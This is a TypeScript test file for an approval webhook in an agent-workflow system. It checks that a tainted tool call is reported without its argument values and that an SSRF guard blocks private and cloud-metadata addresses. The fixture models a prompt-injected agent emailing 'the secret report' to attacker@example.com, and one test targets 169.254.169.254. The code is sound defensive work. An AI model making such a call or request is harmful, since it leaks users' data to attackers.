import http from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { defaultApprovalPolicy } from "../manifest/schemas/approval-policy";
import type { WaitingApproval } from "../trace/waiting-approval";
import { sendWaitingWebhook, waitingNotice, webhookSettingsFromEnvironment } from "./index";

/** TEST DOUBLE: a webhook receiver on 127.0.0.1 that keeps what it is sent and answers with the status the test sets. */
const received: Array<{ path: string; contentType: string | undefined; body: unknown }> = [];
let answer = 204;
let server: http.Server;
let origin: string;
beforeAll(async () => {
  server = http.createServer((request, response) => {
    let text = "";
    request.on("data", (chunk) => (text += chunk));
    request.on("end", () => {
      received.push({ path: request.url ?? "", contentType: request.headers["content-type"], body: JSON.parse(text) });
      response.writeHead(answer).end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => new Promise((resolve) => server.close(resolve)));

const waiting: WaitingApproval = {
  callId: "call-1",
  runId: "run-1",
  workflowId: "mail",
  workflowName: "Mail clerk",
  deadline: "2026-03-02T09:00:00.000Z",
  request: {
    key: "clerk#1/t2/c0",
    nodeId: "clerk",
    nodeRunId: "nr-1",
    tool: "send_email",
    server: "mail",
    arguments: { to: "attacker@example.com", body: "the secret report" },
    message: "mail/send_email waits for approval",
    approval: {
      policy: defaultApprovalPolicy,
      setAt: "the workflow default",
      rule: "taintedWrite",
      reason: "send_email is not read-only and argument to derives from tainted content",
      tainted: [{ path: "to", value: "attacker@example.com", foundIn: [{ origin: "row-1", server: "mail", tool: "read_inbox" }] }],
      inputSchema: { type: "object" },
      since: "2026-03-01T09:00:00.000Z",
      deadline: "2026-03-02T09:00:00.000Z",
    },
  },
};

describe("the approval webhook", () => {
  it("posts the waiting call as JSON: run, workflow, tool, links; argument names and which are tainted, never their values", async () => {
    const result = await sendWaitingWebhook({ url: `${origin}/hooks/T0KEN`, appUrl: "https://switchboard.example/", allowedOrigins: [origin] }, waitingNotice(waiting, "https://switchboard.example/"));
    expect(result).toEqual({ ok: true, status: 204 });
    expect(received).toHaveLength(1);
    expect(received[0]).toMatchObject({ path: "/hooks/T0KEN", contentType: "application/json" });
    expect(received[0].body).toEqual({
      type: "run-waiting",
      waitingFor: "approval",
      runId: "run-1",
      callId: "call-1",
      workflow: { id: "mail", name: "Mail clerk" },
      agent: "clerk",
      tool: "mail/send_email",
      reason: "send_email is not read-only and argument to derives from tainted content",
      policy: "rules: tainted→ask, destructive→ask (set at the workflow default)",
      arguments: { names: ["to", "body"], tainted: ["to"] },
      since: "2026-03-01T09:00:00.000Z",
      deadline: "2026-03-02T09:00:00.000Z",
      link: "https://switchboard.example/approvals",
      runLink: "https://switchboard.example/runs/run-1",
    });
    expect(JSON.stringify(received[0].body)).not.toMatch(/attacker@example\.com|secret report/);
  });

  it("refuses a private address unless allowed (SSRF guard), and reports a failing answer; the error names the origin, not the path", async () => {
    received.length = 0;
    const refused = await sendWaitingWebhook({ url: `${origin}/hooks/T0KEN`, appUrl: "http://app" }, waitingNotice(waiting, "http://app"));
    expect(refused).toMatchObject({ ok: false, error: expect.stringContaining("was not reached") });
    expect(received).toEqual([]);
    const metadata = await sendWaitingWebhook({ url: "http://169.254.169.254/latest", appUrl: "http://app" }, waitingNotice(waiting, "http://app"));
    expect(metadata.ok).toBe(false);

    answer = 500;
    const failed = await sendWaitingWebhook({ url: `${origin}/hooks/T0KEN`, appUrl: "http://app", allowedOrigins: [origin] }, waitingNotice(waiting, "http://app"));
    expect(failed).toEqual({ ok: false, error: `the approval webhook at ${origin} answered HTTP 500` });
    expect(JSON.stringify([refused, failed])).not.toContain("T0KEN");
    answer = 204;
  });

  it("is optional: no URL, no webhook", () => {
    expect(webhookSettingsFromEnvironment({})).toBeNull();
    expect(webhookSettingsFromEnvironment({ SWITCHBOARD_APPROVAL_WEBHOOK_URL: "https://chat.example/hook", SWITCHBOARD_APP_URL: "https://sb.example" })).toEqual({ url: "https://chat.example/hook", appUrl: "https://sb.example", allowedOrigins: [] });
  });
});
